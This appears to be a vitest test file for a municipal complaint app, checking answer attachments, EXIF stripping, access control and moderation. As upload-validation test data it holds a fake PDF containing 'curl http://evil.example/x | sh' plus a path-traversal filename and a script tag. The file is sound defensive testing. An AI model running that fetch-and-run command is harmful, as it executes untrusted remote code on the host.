// The officer side of an answer: files attached to it (API and page form), the response-template
// picker on the answer form, and the moderation buttons (hide / show again) — who may, who may not,
// and what the reporter and the public then see. Real PostgreSQL, the app's full photo sanitiser.
import { Readable } from 'node:stream';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { altchaProof } from '../../../../test/altcha.js';
import { createTestApp, type TestApp } from '../../../../test/app.js';
import { signInAs } from '../../../../test/auth.js';
import { seedTestComplaints } from '../../../../test/complaints.js';
import { type FormFile, followRedirect, multipartBody } from '../../../../test/forms.js';
import { withTenant } from '../../../db/index.js';
import { ATTACHMENT_MAX_BYTES } from './attachments.js';

let t: TestApp;
let coordinator: string;
let handler: string;
let otherHandler: string;
let citizen: string;
let otherTenant: string;
const M = '/t/makassar';

const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1');
const SCRIPT_AS_PDF = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n', 'latin1');

/** A phone photo with the reporter's whereabouts in its EXIF. */
function phonePhoto(): Promise<Buffer> {
  return sharp({ create: { width: 64, height: 48, channels: 3, background: '#2e86c1' } })
    .withExif({ IFD0: { Make: 'Xiaomi', Artist: 'Budi Santoso' }, IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '5/1 8/1 0/1' } })
    .jpeg()
    .toBuffer();
}

const b64 = (b: Buffer) => b.toString('base64');

beforeAll(async () => {
  t = await createTestApp({ RATE_LIMIT_WRITES_PER_MINUTE: '1000000' });
  await seedTestComplaints(t);
  coordinator = (await signInAs(t, 'makassar', { kind: 'officer', grants: [{ role: 'complaint_coordinator' }] })).cookie;
  handler = (await signInAs(t, 'makassar', { kind: 'officer', grants: [{ role: 'complaint_handler', agency: 'disdukcapil' }] })).cookie;
  otherHandler = (await signInAs(t, 'makassar', { kind: 'officer', grants: [{ role: 'complaint_handler', agency: 'dinkes' }] })).cookie;
  citizen = (await signInAs(t, 'makassar', { kind: 'citizen' })).cookie;
  otherTenant = (await signInAs(t, 'jateng', { kind: 'officer', grants: [{ role: 'complaint_coordinator' }] })).cookie;
});
afterAll(async () => {
  await t?.close();
});

function api(method: 'GET' | 'POST', url: string, cookie?: string, payload?: unknown, lang?: string) {
  return t.app.inject({
    method,
    url: `${M}${url}`,
    headers: { ...(payload ? { 'content-type': 'application/json' } : {}), ...(cookie ? { cookie } : {}), ...(lang ? { 'accept-language': lang } : {}) },
    payload: payload as never,
  });
}

/** A report forwarded to disdukcapil, ready to be answered; `anonim` returns its secret code too. */
async function forwardedReport(privacy: 'public' | 'rahasia' | 'anonim' = 'public'): Promise<{ ref: string; id: string; code?: string }> {
  const body = { kind: 'pengaduan', title: 'KTP belum jadi', description: 'Sudah sebulan KTP-el belum jadi di kecamatan.', privacy };
  const res =
    privacy === 'anonim'
      ? await api('POST', '/api/v1/complaints', undefined, { ...body, altcha: await altchaProof() })
      : await api('POST', '/api/v1/complaints', citizen, body);
  expect(res.statusCode).toBe(201);
  const { trackingNumber: ref, id, secretCode: code } = res.json();
  expect((await api('POST', `/api/v1/complaints/${ref}/actions`, coordinator, { action: 'verify', tier: 'simple' })).statusCode).toBe(200);
  expect((await api('POST', `/api/v1/complaints/${ref}/actions`, coordinator, { action: 'dispatch', agencyId: 'disdukcapil' })).statusCode).toBe(200);
  return { ref, id, code };
}

function answer(ref: string, cookie: string, attachments: { filename?: string; contentBase64: string }[], lang?: string) {
  return api('POST', `/api/v1/complaints/${ref}/actions`, cookie, { action: 'answer', text: 'KTP-el sudah dapat diambil.', attachments }, lang);
}

type Timeline = { action: string; body: string | null; attachments?: { id: string; name: string; mime: string; size: number }[] }[];
const answerFiles = (timeline: Timeline) => timeline.find((e) => e.action === 'answer')?.attachments ?? [];

/** The report page's answer form, posted as the browser would (CSRF token in the multipart action URL). */
async function postAnswerForm(cookie: string, ref: string, fields: Record<string, string>, files: FormFile[] = []) {
  const page = await t.app.inject({ method: 'GET', url: `${M}/pengaduan/${ref}`, headers: { cookie } });
  expect(page.statusCode).toBe(200);
  const action = /<form method="post" action="([^"]+)" class="action-form" id="form-answer" enctype="multipart\/form-data">/.exec(page.body)![1]!.replaceAll('&amp;', '&');
  const { payload, type } = multipartBody({ action: 'answer', ...fields }, files);
  return t.app.inject({ method: 'POST', url: action, headers: { 'content-type': type, cookie }, payload });
}

/** A plain (urlencoded) officer action form; the CSRF token from the tenant's queue page of this session. */
async function postForm(cookie: string, ref: string, fields: Record<string, string>, tenant = M) {
  const page = await t.app.inject({ method: 'GET', url: `${tenant}/pengaduan/lacak`, headers: { cookie } });
  const csrf = /name="_csrf" value="([^"]+)"/.exec(page.body)![1]!;
  return t.app.inject({
    method: 'POST',
    url: `${tenant}/pengaduan/${ref}/tindakan`,
    headers: { 'content-type': 'application/x-www-form-urlencoded', cookie },
    payload: new URLSearchParams({ _csrf: csrf, ...fields }).toString(),
  });
}

describe('attachments to an answer (API)', () => {
  it('a PDF is stored as it is, a photo re-encoded without EXIF; downloads carry the checked type, disposition and nosniff', async () => {
    const { ref, id } = await forwardedReport();
    const photo = await phonePhoto();
    const res = await answer(ref, handler, [
      { filename: 'surat-balasan.pdf', contentBase64: b64(PDF) },
      { filename: '../../IMG_2026.JPG', contentBase64: b64(photo) },
    ]);
    expect(res.statusCode).toBe(200);
    const files = answerFiles(res.json().timeline);
    expect(files.map((f) => [f.name, f.mime])).toEqual([
      ['surat-balasan.pdf', 'application/pdf'],
      ['IMG_2026.jpg', 'image/jpeg'],
    ]);

    const pdf = await api('GET', `/api/v1/complaints/${id}/attachments/${files[0]!.id}`, handler);
    expect(pdf.statusCode).toBe(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.headers['content-disposition']).toBe(`attachment; filename="surat-balasan.pdf"; filename*=UTF-8''surat-balasan.pdf`);
    expect(pdf.headers['x-content-type-options']).toBe('nosniff');
    expect(pdf.rawPayload.equals(PDF)).toBe(true);

    const img = await api('GET', `/api/v1/complaints/${id}/attachments/${files[1]!.id}`, handler);
    expect(img.statusCode).toBe(200);
    expect(img.headers['content-type']).toBe('image/jpeg');
    expect(img.headers['content-disposition']).toMatch(/^inline; filename="IMG_2026\.jpg"/);
    expect(img.headers['x-content-type-options']).toBe('nosniff');
    expect(img.rawPayload.equals(photo)).toBe(false); // re-encoded
    const meta = await sharp(img.rawPayload).metadata();
    expect(meta.exif).toBeUndefined();
    for (const trace of ['Exif\0\0', 'Budi', 'Xiaomi']) expect(img.rawPayload.toString('latin1')).not.toContain(trace);

    // The audit entry: how many, which ids, types, sizes and digests — no content, no file name.
    await t.audit.flush(t.db.app);
    const row = await t.db.owner.selectFrom('audit_log').select('entry').where('action', '=', 'complaint.answer').where('subject', '=', `complaint:${id}`).executeTakeFirstOrThrow();
    const entry = row.entry.toString();
    const data = JSON.parse(entry).data;
    expect(data.attachments).toBe(2);
    expect(data.attachmentFiles).toEqual([
      { id: files[0]!.id, type: 'application/pdf', bytes: PDF.length, sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
      { id: files[1]!.id, type: 'image/jpeg', bytes: img.rawPayload.length, sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
    ]);
    const { createHash } = await import('node:crypto');
    expect(data.attachmentFiles[0].sha256).toBe(createHash('sha256').update(PDF).digest('hex'));
    expect(data.attachmentFiles[1].sha256).toBe(createHash('sha256').update(img.rawPayload).digest('hex'));
    for (const leak of ['%PDF', 'surat-balasan', 'IMG_2026', b64(PDF).slice(0, 24)]) expect(entry).not.toContain(leak);
  });

  it('a script renamed .pdf: 400 on /attachments in the caller’s language, nothing answered', async () => {
    const { ref } = await forwardedReport();
    const id = await answer(ref, handler, [{ filename: 'surat.pdf', contentBase64: b64(SCRIPT_AS_PDF) }]);
    expect(id.statusCode).toBe(400);
    expect(id.headers['content-type']).toContain('application/problem+json');
    expect(id.json().errors).toEqual([expect.objectContaining({ field: '/attachments', message: expect.stringContaining('bukan PDF, JPEG, PNG, atau WebP') })]);
    const en = await answer(ref, handler, [{ filename: 'surat.pdf', contentBase64: b64(SCRIPT_AS_PDF) }], 'en');
    expect(en.statusCode).toBe(400);
    expect(en.json().errors[0].message).toContain('"surat.pdf" is not a valid PDF');
    // A header without the end marker is not a PDF either; not base64 at all is refused the same way.
    expect((await answer(ref, handler, [{ contentBase64: b64(Buffer.from('%PDF-1.7\n<script>')) }])).statusCode).toBe(400);
    expect((await answer(ref, handler, [{ contentBase64: '<html>?' }])).statusCode).toBe(400);
    expect((await api('GET', `/api/v1/complaints/${ref}`, handler)).json().status).toBe('forwarded');
  });

  it('too many files (400) and too big a file (413) are refused', async () => {
    const { ref } = await forwardedReport();
    const four = Array.from({ length: 4 }, () => ({ contentBase64: b64(PDF) }));
    const many = await answer(ref, handler, four);
    expect(many.statusCode).toBe(400);
    const big = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(ATTACHMENT_MAX_BYTES), Buffer.from('\n%%EOF\n')]);
    const large = await answer(ref, handler, [{ filename: 'besar.pdf', contentBase64: b64(big) }]);
    expect(large.statusCode).toBe(413);
    expect(large.json().errors[0]).toMatchObject({ field: '/attachments', code: 'attachment_too_large' });
    expect((await api('GET', `/api/v1/complaints/${ref}`, handler)).json().status).toBe('forwarded');
  });

  it('only the report’s agency answers: another agency 404, a citizen 403, another tenant refused; large bodies only from officers', async () => {
    const { ref, id } = await forwardedReport();
    const file = [{ contentBase64: b64(PDF) }];
    expect((await answer(ref, otherHandler, file)).statusCode).toBe(404);
    expect((await answer(ref, citizen, file)).statusCode).toBe(403);
    expect([401, 403]).toContain((await answer(ref, otherTenant, file)).statusCode);
    expect((await t.app.inject({ method: 'POST', url: `/t/jateng/api/v1/complaints/${id}/actions`, headers: { 'content-type': 'application/json', cookie: otherTenant }, payload: { action: 'answer', text: 'x', attachments: file } })).statusCode).toBe(404);
    // Someone without an officer session keeps the app's 1 MB limit on this endpoint.
    const twoMb = b64(Buffer.alloc(2 * 1024 * 1024));
    expect((await api('POST', `/api/v1/complaints/${ref}/actions`, undefined, { action: 'reopen', reason: 'x', secretCode: twoMb.slice(0, 30), comment: twoMb })).statusCode).toBe(413);
    // …also when the body comes without a Content-Length (chunked).
    const chunked = await t.app.inject({
      method: 'POST',
      url: `${M}/api/v1/complaints/${ref}/actions`,
      headers: { 'content-type': 'application/json' },
      payload: Readable.from([Buffer.from(JSON.stringify({ action: 'reopen', reason: 'x', comment: twoMb }))]),
    });
    expect(chunked.statusCode).toBe(413);
    expect((await api('GET', `/api/v1/complaints/${ref}`, handler)).json().status).toBe('forwarded');
  });
});

describe('who downloads an answer’s files', () => {
  it('a confidential report: its reporter and handlers yes; the public, another agency and another tenant 404', async () => {
    const { ref, id } = await forwardedReport('rahasia');
    const res = await answer(ref, handler, [{ filename: 'surat.pdf', contentBase64: b64(PDF) }]);
    const fileId = answerFiles(res.json().timeline)[0]!.id;
    const url = `/api/v1/complaints/${id}/attachments/${fileId}`;
    expect((await api('GET', url, citizen)).statusCode).toBe(200); // the reporter (citizen account)
    expect((await api('GET', url, coordinator)).statusCode).toBe(200);
    expect((await api('GET', url)).statusCode).toBe(404);
    expect((await api('GET', url, otherHandler)).statusCode).toBe(404);
    expect((await api('GET', url, otherTenant)).statusCode).toBe(404);
    expect((await t.app.inject({ url: `/t/jateng${url}`, headers: { cookie: otherTenant } })).statusCode).toBe(404);
    // Row-level security: the app's database role sees the row only as the report's tenant.
    const tenants = await t.db.owner.selectFrom('tenants').select(['id', 'slug']).where('slug', 'in', ['makassar', 'jateng']).execute();
    const idOf = (slug: string) => tenants.find((x) => x.slug === slug)!.id;
    const rowsAs = (slug: string) => withTenant(t.db.app, idOf(slug), (trx) => trx.selectFrom('complaint_answer_attachments').select('id').where('id', '=', fileId).execute());
    expect(await rowsAs('makassar')).toHaveLength(1);
    expect(await rowsAs('jateng')).toHaveLength(0);
    // The reporter's own page lists it.
    const page = await t.app.inject({ url: `${M}/pengaduan/${ref}`, headers: { cookie: citizen } });
    expect(page.body).toContain(`href="${M}${url}"`);
    // A file id of another report is not found through this one.
    const other = await forwardedReport('public');
    expect((await api('GET', `/api/v1/complaints/${other.id}/attachments/${fileId}`)).statusCode).toBe(404);
  });

  it('a published report shows the answer and its files in public, until it is hidden', async () => {
    const { ref, id } = await forwardedReport('public');
    const res = await answer(ref, handler, [{ filename: 'surat.pdf', contentBase64: b64(PDF) }]);
    const fileId = answerFiles(res.json().timeline)[0]!.id;
    const url = `/api/v1/complaints/${id}/attachments/${fileId}`;
    expect((await api('GET', url)).statusCode).toBe(200);
    expect((await t.app.inject({ url: `${M}/pengaduan/${ref}` })).body).toContain('Unduh surat.pdf');
    expect((await api('POST', `/api/v1/complaints/${ref}/actions`, coordinator, { action: 'hide', reason: 'Berisi data pribadi' })).statusCode).toBe(200);
    expect((await api('GET', url)).statusCode).toBe(404);
    expect((await api('GET', url, citizen)).statusCode).toBe(200); // the reporter still
  });

  it('an anonymous reporter downloads with the secret code in a POST body (tracking page); a wrong code 404', async () => {
    const { ref, code } = await forwardedReport('anonim');
    const res = await answer(ref, handler, [{ filename: 'surat balasan.pdf', contentBase64: b64(PDF) }]);
    const fileId = answerFiles(res.json().timeline)[0]!.id;
    const track = await t.app.inject({ url: `${M}/pengaduan/lacak` });
    const csrf = /name="_csrf" value="([^"]+)"/.exec(track.body)![1]!;
    const jar = ([] as string[]).concat(track.headers['set-cookie'] ?? []).map((c) => c.split(';')[0]).join('; ');
    const form = (fields: Record<string, string>, url: string) =>
      t.app.inject({ method: 'POST', url: `${M}${url}`, headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: jar }, payload: new URLSearchParams({ _csrf: csrf, ...fields }).toString() });
    const view = await followRedirect(t, await form({ code: code! }, '/pengaduan/lacak'), jar);
    expect(view.statusCode).toBe(200);
    expect(view.body).toContain(`action="${M}/pengaduan/lacak/lampiran/${fileId}"`);
    expect(view.body).toContain('Unduh surat balasan.pdf');
    const file = await form({ code: code! }, `/pengaduan/lacak/lampiran/${fileId}`);
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe('application/pdf');
    expect(file.headers['content-disposition']).toContain('attachment; filename="surat balasan.pdf"');
    expect(file.headers['cache-control']).toBe('no-store');
    expect(file.rawPayload.equals(PDF)).toBe(true);
    expect((await form({ code: 'AAAAA-AAAAA-AAAAA-AAAAA' }, `/pengaduan/lacak/lampiran/${fileId}`)).statusCode).toBe(404);
    // The JSON variant.
    const apiFile = await api('POST', `/api/v1/complaints/track/attachments/${fileId}`, undefined, { code });
    expect(apiFile.statusCode).toBe(200);
    expect(apiFile.headers['x-content-type-options']).toBe('nosniff');
  });
});

describe('the answer form on the report page', () => {
  it('attaches a PDF; a script renamed .pdf re-renders 400 with the message beside the field and the text kept', async () => {
    const { ref } = await forwardedReport();
    const refused = await postAnswerForm(handler, ref, { text: 'Jawaban yang <b>diketik</b> petugas' }, [
      { name: 'attachments', filename: 'surat.pdf', type: 'application/pdf', data: SCRIPT_AS_PDF },
    ]);
    expect(refused.statusCode).toBe(400);
    expect(refused.body).toContain('class="error-summary"');
    expect(refused.body).toMatch(/<p class="field-error" id="e-f-attachments">Berkas &quot;surat.pdf&quot; bukan PDF[^<]*<\/p><input id="f-attachments"[^>]*aria-invalid="true"/);
    expect(refused.body).toContain('Jawaban yang &lt;b>diketik&lt;/b> petugas</textarea>');
    expect(refused.body).toContain('Pilih lagi berkas lampiran');

    const ok = await postAnswerForm(handler, ref, { text: 'KTP-el sudah dapat diambil.' }, [
      { name: 'attachments', filename: 'surat.pdf', type: 'application/pdf', data: PDF },
      { name: 'attachments', filename: '', type: 'application/octet-stream', data: Buffer.alloc(0) },
    ]);
    expect(ok.statusCode).toBe(303);
    const view = (await api('GET', `/api/v1/complaints/${ref}`, handler)).json();
    expect(view.status).toBe('responded');
    expect(answerFiles(view.timeline).map((f) => f.name)).toEqual(['surat.pdf']);
    expect((await t.app.inject({ url: `${M}/pengaduan/${ref}`, headers: { cookie: handler } })).body).toContain('Unduh surat.pdf');
  });

  it('too many files through the form: 400 beside the field, text kept', async () => {
    const { ref } = await forwardedReport();
    const pdf = { name: 'attachments', filename: 'a.pdf', type: 'application/pdf', data: PDF };
    const res = await postAnswerForm(handler, ref, { text: 'Teks tetap ada' }, [pdf, pdf, pdf, pdf]);
    expect(res.statusCode).toBe(400);
    expect(res.body).toContain('Paling banyak 3 lampiran.');
    expect(res.body).toContain('id="e-f-attachments"');
    expect(res.body).toContain('Teks tetap ada</textarea>');
  });

  it('the template picker: the agency’s and tenant-wide templates (not another agency’s), a hint; empty text uses the template, typed text wins', async () => {
    const tenantWide = (await api('POST', '/api/v1/complaints/templates', coordinator, { title: 'Umum: terima kasih', body: 'Terima kasih atas laporan Anda. Laporan telah kami tindak lanjuti.' })).json();
    const agency = (await api('POST', '/api/v1/complaints/templates', handler, { agency: 'disdukcapil', title: 'KTP-el siap diambil', body: 'KTP-el Anda sudah dapat diambil di kantor kecamatan dengan membawa bukti perekaman.' })).json();
    const other = (await api('POST', '/api/v1/complaints/templates', otherHandler, { agency: 'dinkes', title: 'Dinkes: jadwal puskesmas', body: 'Jadwal puskesmas.' })).json();
    expect([tenantWide.id, agency.id, other.id].every(Boolean)).toBe(true);
    const { ref } = await forwardedReport();
    const page = await t.app.inject({ url: `${M}/pengaduan/${ref}`, headers: { cookie: handler } });
    expect(page.body).toContain(`<option value="${tenantWide.id}">Umum: terima kasih</option>`);
    expect(page.body).toContain(`<option value="${agency.id}">KTP-el siap diambil</option>`);
    expect(page.body).not.toContain(other.id);
    expect(page.body).toContain('aria-describedby="h-template"');
    expect(page.body).toContain('Bila kotak jawaban di bawah dibiarkan kosong, isi templat yang dipilih dikirim');
    expect(page.body).toContain('KTP-el Anda sudah dapat diambil di kantor kecamatan'); // the texts, readable without JavaScript

    // An unknown template: 400 beside the select, the choice not lost.
    const unknown = await postAnswerForm(handler, ref, { templateId: other.id, text: '' });
    expect(unknown.statusCode).toBe(400);
    expect(unknown.body).toContain('id="e-f-template"');
    const used = await postAnswerForm(handler, ref, { templateId: agency.id, text: '' });
    expect(used.statusCode).toBe(303);
    const view = (await api('GET', `/api/v1/complaints/${ref}`, handler)).json();
    expect(view.timeline.find((e: { action: string }) => e.action === 'answer').body).toBe('KTP-el Anda sudah dapat diambil di kantor kecamatan dengan membawa bukti perekaman.');

    const second = await forwardedReport();
    expect((await postAnswerForm(handler, second.ref, { templateId: agency.id, text: 'Tulisan petugas sendiri.' })).statusCode).toBe(303);
    const view2 = (await api('GET', `/api/v1/complaints/${second.ref}`, handler)).json();
    expect(view2.timeline.find((e: { action: string }) => e.action === 'answer').body).toBe('Tulisan petugas sendiri.');
  });
});

describe('moderation buttons', () => {
  it('the coordinator hides a report with a reason (gone from the list, map and Open311, cache included) and shows it again', async () => {
    const { ref } = await forwardedReport('public');
    const listed = async () => {
      const [list, geo, open311] = await Promise.all([
        t.app.inject({ url: `${M}/api/v1/complaints?limit=100` }),
        t.app.inject({ url: `${M}/api/v1/complaints/geojson` }),
        t.app.inject({ url: `${M}/open311/v2/requests.json` }),
      ]);
      return { list: list.body.includes(ref), open311: open311.body.includes(ref), geo: geo.body.includes(ref), page: (await t.app.inject({ url: `${M}/pengaduan/${ref}` })).statusCode };
    };
    expect(await listed()).toEqual({ list: true, open311: true, geo: false, page: 200 }); // no place: not on the map

    const page = await t.app.inject({ url: `${M}/pengaduan/${ref}`, headers: { cookie: coordinator } });
    expect(page.body).toContain('Moderasi tampilan publik');
    expect(page.body).toContain('<input type="hidden" name="action" value="hide"/>');
    const handlerPage = await t.app.inject({ url: `${M}/pengaduan/${ref}`, headers: { cookie: handler } });
    expect(handlerPage.body).not.toContain('value="hide"');

    const noReason = await postForm(coordinator, ref, { action: 'hide', reason: ' ' });
    expect(noReason.statusCode).toBe(400);
    expect(noReason.body).toMatch(/<p class="field-error" id="e-f-hide-reason">[^<]+<\/p><textarea id="f-hide-reason"[^>]*aria-invalid="true"/);
    expect((await postForm(handler, ref, { action: 'hide', reason: 'Bukan wewenang' })).statusCode).toBe(403);
    // Another tenant's coordinator: no session here (refused), and no such report in their own tenant (404).
    expect([401, 403]).toContain((await postForm(otherTenant, ref, { action: 'hide', reason: 'x' })).statusCode);
    expect((await postForm(otherTenant, ref, { action: 'hide', reason: 'x' }, '/t/jateng')).statusCode).toBe(404);
    expect((await listed()).list).toBe(true);

    const hidden = await postForm(coordinator, ref, { action: 'hide', reason: 'Memuat data pribadi pihak ketiga' });
    expect(hidden.statusCode).toBe(303);
    expect(hidden.headers.location).toBe(`${M}/pengaduan/${ref}?ok=hide`);
    const confirmation = await t.app.inject({ url: hidden.headers.location!, headers: { cookie: coordinator } });
    expect(confirmation.body).toContain('Laporan disembunyikan: tidak lagi tampil di daftar publik, peta, dan Open311.');
    expect(confirmation.body).toContain('<input type="hidden" name="action" value="unhide"/>');
    expect(await listed()).toEqual({ list: false, open311: false, geo: false, page: 404 });

    const shown = await postForm(coordinator, ref, { action: 'unhide', reason: '' });
    expect(shown.statusCode).toBe(303);
    expect((await t.app.inject({ url: shown.headers.location!, headers: { cookie: coordinator } })).body).toContain('Laporan tampil kembali');
    expect(await listed()).toEqual({ list: true, open311: true, geo: false, page: 200 });
    // Another tenant's coordinator has no such report.
    expect((await t.app.inject({ method: 'POST', url: `/t/jateng/api/v1/complaints/${ref}/actions`, headers: { 'content-type': 'application/json', cookie: otherTenant }, payload: { action: 'hide', reason: 'x' } })).statusCode).toBe(404);
  });
});

describe('the OpenAPI document', () => {
  it('describes the attachments of an answer and the two download operations', async () => {
    const doc = (await t.app.inject('/api/openapi.json')).json();
    const act = doc.paths['/api/v1/complaints/{ref}/actions'].post;
    const attachments = act.requestBody.content['application/json'].schema.properties.attachments;
    expect(attachments).toMatchObject({ type: 'array', maxItems: 3, items: { required: ['contentBase64'] } });
    expect(doc.paths['/api/v1/complaints/{ref}/attachments/{id}'].get.operationId).toBe('getComplaintAnswerAttachment');
    expect(doc.paths['/api/v1/complaints/track/attachments/{id}'].post.operationId).toBe('trackComplaintAttachment');
  });
});
